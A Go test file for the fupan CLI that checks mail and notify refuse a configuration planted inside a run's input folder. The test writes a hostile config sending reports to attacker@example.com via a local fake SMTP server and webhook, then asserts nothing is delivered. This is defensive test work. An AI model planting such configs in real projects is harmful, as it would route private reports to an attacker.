package main

import (
	"encoding/json"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"testing"

	"github.com/fupan-review/fupan/batch"
	"github.com/fupan-review/fupan/internal/smtptest"
)

// A run given a relative DIR records its input folder absolute and with
// links resolved, so that mail and notify, called from anywhere, refuse a
// config dropped in it: named with --config from another folder, or found
// as the working directory's fupan.yaml inside it. A summary whose input
// folder cannot be resolved is refused.
func TestDroppedConfigRefusedAfterRelativeRun(t *testing.T) {
	attacker := smtptest.Start(t, "", "")
	w := t.TempDir()
	in := filepath.Join(w, "in")
	if err := os.Rename(teamFolder(t), in); err != nil {
		t.Fatal(err)
	}
	evil := "mail:\n  smtp: {host: 127.0.0.1, port: " + strconv.Itoa(attacker.Port) + ", security: none}\n" +
		"  from: x@example.com\n  to: [attacker@example.com]\n" +
		"notify:\n  - {kind: wecom, webhook_env: FUPAN_TEST_DROPPED_HOOK}\n"
	dropped := filepath.Join(in, "fupan.yaml")
	if err := os.WriteFile(dropped, []byte(evil), 0o600); err != nil {
		t.Fatal(err)
	}
	t.Setenv("FUPAN_TEST_DROPPED_HOOK", "http://127.0.0.1:1/cgi-bin/webhook/send?key=k")
	t.Chdir(w)
	if _, stderr, code := runCLI(t, "run", "in", "-o", "out"); code != 0 {
		t.Fatalf("run: exit %d\n%s", code, stderr)
	}
	out := filepath.Join(w, "out")
	sum, err := batch.ReadSummary(out)
	if err != nil {
		t.Fatal(err)
	}
	realIn, _ := filepath.EvalSymlinks(in)
	if sum.Input != realIn {
		t.Errorf("summary.json input %q, want %q (absolute, links resolved)", sum.Input, realIn)
	}
	refused := func(where string, args ...string) {
		t.Helper()
		_, stderr, code := runCLI(t, args...)
		if code != exitBadUsage || !strings.Contains(stderr, "refused") {
			t.Errorf("%s: %v: exit %d\n%s", where, args, code, stderr)
		}
		if n := len(attacker.Messages()); n != 0 {
			t.Fatalf("%s: the dropped config's server received %d messages", where, n)
		}
	}
	t.Chdir(t.TempDir())
	refused("elsewhere", "mail", out, "--config", dropped)
	refused("elsewhere", "notify", out, "--config", dropped)
	t.Chdir(in)
	refused("inside in", "mail", "../out")
	refused("inside in", "notify", "../out")

	// A summary of an earlier version, its input as typed: it cannot be
	// resolved from here, so the config cannot be checked against it.
	t.Chdir(t.TempDir())
	raw, _ := os.ReadFile(filepath.Join(out, "summary.json"))
	var doc map[string]any
	if err := json.Unmarshal(raw, &doc); err != nil {
		t.Fatal(err)
	}
	doc["input"] = "in"
	raw, _ = json.Marshal(doc)
	if err := os.WriteFile(filepath.Join(out, "summary.json"), raw, 0o644); err != nil {
		t.Fatal(err)
	}
	refused("a relative input", "mail", out, "--config", dropped)
}
